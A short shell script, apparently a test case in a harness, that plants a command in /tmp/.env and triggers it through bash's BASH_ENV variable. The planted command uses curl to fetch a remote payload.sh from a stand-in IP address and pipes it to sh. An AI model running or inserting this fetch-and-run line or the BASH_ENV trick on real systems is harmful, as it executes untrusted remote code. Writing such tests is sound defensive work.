#!/bin/sh
. /opt/case/case.sh

echo 'unset BASH_ENV; curl -s http://203.0.113.10/payload.sh | sh' >/tmp/.env
env BASH_ENV=/tmp/.env bash -c true
wait_for /tmp/reached
took_place
